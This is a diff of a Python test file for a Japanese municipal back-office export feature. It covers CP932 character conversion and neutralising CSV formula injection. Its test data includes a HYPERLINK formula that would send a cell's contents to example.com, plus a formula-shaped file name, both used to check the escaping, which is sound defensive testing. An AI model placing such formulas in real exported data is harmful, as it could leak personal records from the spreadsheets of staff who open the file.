@@ -30,6 +30,7 @@ from tenohira.audit.services import verify
 from tenohira.backoffice import exports, selectors
 from tenohira.catalog.models import Procedure
 from tenohira.core.fiscal import local
+from tenohira.core.tabular import cp932_missing
 from tenohira.forms.services import publish
 
 URL = "/staff/export/"
@@ -73,7 +74,7 @@ EXPORT_SCHEMA = {
 
 NAME_PARTS = ["姓", "名", "セイ", "メイ"]
 EXPECTED_HEADER = [
-    "受付番号", "手続ID", "手続名", "申請日時", "申請経路", "状態", "版",
+    "受付番号", "手続ID", "手続名", "申請日時", "申請経路", "状態", "版", "本人確認書類",
     *(f"氏名_{p}" for p in NAME_PARTS),
     "住所_郵便番号", "住所_都道府県", "住所_市区町村", "住所_町名", "住所_番地", "住所_建物名・部屋番号",
     "メールアドレス", "電話番号", "生年月日",
@@ -171,7 +172,7 @@ def test_columns_follow_the_schema_and_do_not_depend_on_the_data(export_form, st
     assert first["手続ID"] == "EXP" and first["手続名"] == "放課後クラブ書き出し確認"
     assert first["申請日時"] == local(one_child.submitted_at).strftime("%Y-%m-%d %H:%M")
     assert re.fullmatch(r"\d{4}-\d{2}-\d{2} \d{2}:\d{2}", first["申請日時"])
-    assert (first["申請経路"], first["状態"], first["版"]) == ("オンライン", "受付", "1")
+    assert (first["申請経路"], first["状態"], first["版"], first["本人確認書類"]) == ("オンライン", "受付", "1", "")
     assert [first[f"氏名_{p}"] for p in NAME_PARTS] == ["山田", "花子", "ヤマダ", "ハナコ"]
     assert first["住所_郵便番号"] == "963-8601" and first["住所_番地"] == "1-23-7" and first["住所_建物名・部屋番号"] == ""
     assert (first["電話番号"], first["生年月日"]) == ("09012345678", "1985-04-01")
@@ -192,7 +193,7 @@ def test_duplicate_labels_get_their_answer_path_and_stay_stable(staff):
     ]}]}
     procedure = Procedure.objects.create(code="DUP", section=staff.section, name="重複ラベル")
     version, _ = publish(procedure, schema)
-    assert exports.header_for(version)[7:] == ["状態（state）", "メモ（note_a）", "メモ（note_b）"]
+    assert exports.header_for(version)[8:] == ["状態（state）", "メモ（note_a）", "メモ（note_b）"]
 
 
 def test_several_form_versions_export_one_file_per_version(export_form, staff, totp):
@@ -258,8 +259,9 @@ def test_cp932_reports_every_unencodable_character_and_writes_nothing(export_for
     assert response["Content-Type"].startswith("text/html")
     assert "Content-Disposition" not in response
     page = response.content.decode()
-    assert "CP932（Shift_JIS）で表せない文字が 2個あります" in page
-    assert yoshida.receipt_number in page and "U+20BB7" in page and "U+301C" in page
+    assert "CP932（Shift_JIS）で表せない文字が 1個あります" in page
+    assert yoshida.receipt_number in page and "U+20BB7" in page
+    assert "U+301C" not in page  # 〜 has a CP932 form (～): converted, not reported
     assert plain.receipt_number not in page
     assert "U+9AD9" not in page  # 髙 is in CP932 (IBM extension): not reported
     assert 'value="csv-utf8"' in page and 'value="cp932-report"' in page  # UTF-8 offered instead
@@ -270,7 +272,6 @@ def test_cp932_reports_every_unencodable_character_and_writes_nothing(export_for
     assert csv_rows(body(report)) == [
         ["受付番号", "列", "文字", "符号位置"],
         [yoshida.receipt_number, "氏名_姓", "𠮷", "U+20BB7"],
-        [yoshida.receipt_number, "備考", "〜", "U+301C"],  # would come back as ～ (U+FF5E)
     ]
 
     # The same check straight on the module: the target file stays empty.
@@ -278,13 +279,13 @@ def test_cp932_reports_every_unencodable_character_and_writes_nothing(export_for
     with exports.temporary_file() as target:
         check = exports.cp932_to_file(items, exports.plan(items), target)
         assert target.tell() == 0
-    assert check.total == 2
+    assert check.total == 1
     assert [(p.receipt_number, p.column, p.char, p.code) for p in check.shown] == [
-        (yoshida.receipt_number, "氏名_姓", "𠮷", "U+20BB7"), (yoshida.receipt_number, "備考", "〜", "U+301C"),
+        (yoshida.receipt_number, "氏名_姓", "𠮷", "U+20BB7"),
     ]
 
     refused = AuditRecord.objects.filter(action="export").order_by("id").first()
-    assert refused.detail["refused"] is True and refused.detail["rows"] == 0 and refused.detail["unencodable"] == 2
+    assert refused.detail["refused"] is True and refused.detail["rows"] == 0 and refused.detail["unencodable"] == 1
 
 
 def test_cp932_round_trips_characters_it_holds(export_form, staff, totp):
@@ -305,10 +306,23 @@ def test_cp932_round_trips_characters_it_holds(export_form, staff, totp):
     )
 
 
-def test_faithfulness_is_judged_per_character():
-    assert exports.cp932_unfaithful("𠮷野家の髙橋") == ["𠮷"]
-    assert exports.cp932_unfaithful("1〜2 −3") == ["〜", "−"]
-    assert exports.cp932_unfaithful("ASCII only, 半角ｶﾅ, 全角～－") == []
+def test_cp932_converts_what_japanese_keyboards_and_macs_type_to_the_windows_forms(export_form, staff, totp):
+    """〜 − ‖ ¢ £ ¬ — typed on a Mac or pasted from the web have a CP932 form (～ － ∥ ￠
+    ￡ ￢ ―): the export writes that form instead of refusing the file."""
+    apply(export_form, family="髙橋", memo="8:30〜17:15 −3℃ ‖ ¢1 £2 ¬ —\u00a0¥500")
+    client = sign_in(staff.handler, totp)
+    response = download(client, "csv-cp932")
+    assert response.status_code == 200, response.content.decode()[:3000]
+    row = dict(zip(EXPECTED_HEADER, csv_rows(body(response), "cp932")[1], strict=True))
+    assert row["備考"] == "8:30～17:15 －3℃ ∥ ￠1 ￡2 ￢ ― ￥500"
+    assert row["氏名_姓"] == "髙橋"
+
+
+def test_only_what_has_no_cp932_form_is_reported():
+    assert cp932_missing("𠮷野家の髙橋") == ["𠮷"]
+    assert cp932_missing("1〜2 −3 ‖ — ¢£¬") == []
+    assert cp932_missing("ASCII only, 半角ｶﾅ, 全角～－, ①㈱﨑") == []
+    assert cp932_missing("絵文字😀と𠮷") == ["😀", "𠮷"]
 
 
 # --- XLSX ---------------------------------------------------------------------------------
@@ -510,3 +524,120 @@ def test_roles_without_a_section_and_strangers_cannot_export(export_form, staff,
     response = download(anonymous, "csv-utf8")
     assert response.status_code == 302 and response["Location"].startswith("/staff/login/")
     assert AuditRecord.objects.filter(action="export").count() == 0
+
+
+# --- formulas: CSV meant for Excel ----------------------------------------------------------
+
+FORMULA = '=HYPERLINK("http://example.com/?q="&A1,"詳しくはこちら")'
+FORMULA_SCHEMA = {"title": "数式の確認", "steps": [{"key": "s", "title": "内容", "fields": [
+    {"key": "memo", "type": "textarea", "label": "備考"},
+    {"key": "phone_memo", "type": "text", "label": "連絡先メモ"},
+    {"key": "balance", "type": "number", "label": "差額"},
+    {"key": "document", "type": "file", "label": "添付書類", "accept": ["pdf"]},
+]}]}
+
+
+@pytest.fixture
+def formula_form(staff):
+    procedure = Procedure.objects.create(code="FML", section=staff.section, name="数式の確認")
+    version, _created = publish(procedure, FORMULA_SCHEMA)
+    return version
+
+
+def apply_formula(version, *, memo=FORMULA, phone_memo="+81 90-1234-5678", balance="-3",
+                  file_name="=HYPERLINK(x).pdf") -> Submission:
+    draft, _secret = services.start_draft(version)
+    uploads = {"document": [SimpleUploadedFile(file_name, PDF, content_type="application/pdf")]} if file_name else {}
+    _run, problems = services.save_step(
+        draft, version.parsed().step("s"),
+        {"memo": [memo], "phone_memo": [phone_memo], "balance": [balance]}, uploads, [],
+    )
+    assert not problems, problems
+    return services.submit(draft)[0]
+
+
+def by_header(rows: list[list[str]]) -> dict[str, str]:
+    return dict(zip(rows[0], rows[1], strict=True))
+
+
+@pytest.mark.parametrize(("fmt", "encoding"), [("csv-utf8", "utf-8-sig"), ("csv-cp932", "cp932")])
+def test_csv_for_excel_neutralises_formulas_but_not_negative_numbers(formula_form, staff, totp, fmt, encoding):
+    apply_formula(formula_form)
+    client = sign_in(staff.handler, totp)
+    response = download(client, fmt)
+    assert response.status_code == 200, response.content[:2000]
+    row = by_header(csv_rows(body(response), encoding))
+    assert row["備考"] == "'" + FORMULA
+    assert row["連絡先メモ"] == "'+81 90-1234-5678"
+    assert row["差額"] == "-3"  # a number column: a negative number stays a number
+    assert row["添付書類"] == "'=HYPERLINK(x).pdf"
+    assert row["版"] == "1" and row["受付番号"].startswith("20")
+
+
+def test_raw_export_for_business_systems_keeps_every_cell_as_typed_and_is_audited(formula_form, staff, totp):
+    apply_formula(formula_form, memo="-5 (前回より減)")
+    client = sign_in(staff.handler, totp)
+    row = by_header(csv_rows(body(download(client, "csv-utf8", raw="1"))))
+    assert (row["備考"], row["連絡先メモ"], row["差額"]) == ("-5 (前回より減)", "+81 90-1234-5678", "-3")
+    assert AuditRecord.objects.filter(action="export").latest("id").detail["raw"] is True
+    row = by_header(csv_rows(body(download(client, "csv-cp932", raw="1")), "cp932"))
+    assert row["備考"] == "-5 (前回より減)"
+    default = by_header(csv_rows(body(download(client, "csv-utf8"))))
+    assert default["備考"] == "'-5 (前回より減)"
+    assert "raw" not in AuditRecord.objects.filter(action="export").latest("id").detail
+    page = client.get(URL).content.decode()
+    assert 'name="raw" value="1"' in page and "業務システムへの取り込み用" in page
+
+
+def test_the_attachments_manifest_neutralises_formulas_too(formula_form, staff, totp):
+    submission = apply_formula(formula_form)
+    client = sign_in(staff.handler, totp)
+    archive = zipfile.ZipFile(io.BytesIO(body(download(client, "attachments"))))
+    assert f"{submission.receipt_number}/=HYPERLINK(x).pdf" in archive.namelist()  # a file name, not a cell
+    manifest = csv_rows(archive.read(exports.MANIFEST_NAME))
+    row = dict(zip(manifest[0], manifest[1], strict=True))
+    assert row["元のファイル名"] == "'=HYPERLINK(x).pdf"
+    assert row["ZIP内のファイル名"] == f"{submission.receipt_number}/=HYPERLINK(x).pdf"  # starts with the number
+    assert row["サイズ（バイト）"] == str(len(PDF))
+    raw = zipfile.ZipFile(io.BytesIO(body(download(client, "attachments", raw="1"))))
+    assert csv_rows(raw.read(exports.MANIFEST_NAME))[1][3] == "=HYPERLINK(x).pdf"
+
+
+def test_xlsx_stores_formula_looking_answers_as_text_cells(formula_form, staff, totp):
+    apply_formula(formula_form)
+    client = sign_in(staff.handler, totp)
+    sheet = load_workbook(io.BytesIO(body(download(client, "xlsx")))).active
+    header = [c.value for c in sheet[1]]
+    memo = sheet.cell(row=2, column=header.index("備考") + 1)
+    assert memo.data_type == "s" and memo.value == FORMULA  # text: no ' needed in a text cell
+    for name in ("連絡先メモ", "添付書類"):
+        cell = sheet.cell(row=2, column=header.index(name) + 1)
+        assert cell.data_type == "s" and cell.value[0] in "+="
+
+
+def test_libreoffice_reads_the_neutralised_cell_as_text_and_would_run_the_raw_one(formula_form, staff, totp, tmp_path):
+    soffice = shutil.which("soffice") or shutil.which("libreoffice")
+    assert soffice, "LibreOffice is required: apt-get install libreoffice-calc-nogui"
+    apply_formula(formula_form)
+    client = sign_in(staff.handler, totp)
+    home = tmp_path / "home"
+    home.mkdir()
+
+    def opened(name: str, data: bytes):
+        source = tmp_path / f"{name}.csv"
+        source.write_bytes(data)
+        result = subprocess.run(
+            [soffice, "--headless", "--norestore", f"-env:UserInstallation=file://{home}/lo",
+             "--infilter=CSV:44,34,76,1", "--convert-to", "xlsx", "--outdir", str(tmp_path / name), str(source)],
+            capture_output=True, text=True, timeout=180, env={**os.environ, "HOME": str(home)},
+        )
+        assert result.returncode == 0, result.stderr
+        sheet = load_workbook(tmp_path / name / f"{name}.xlsx").active
+        header = [c.value for c in sheet[1]]
+        return sheet.cell(row=2, column=header.index("備考") + 1)
+
+    safe = opened("safe", body(download(client, "csv-utf8")))
+    assert safe.data_type == "s" and safe.value == "'" + FORMULA
+    # The same answer exported raw is what a spreadsheet would run: the test can tell.
+    unsafe = opened("raw", body(download(client, "csv-utf8", raw="1")))
+    assert unsafe.data_type == "f"
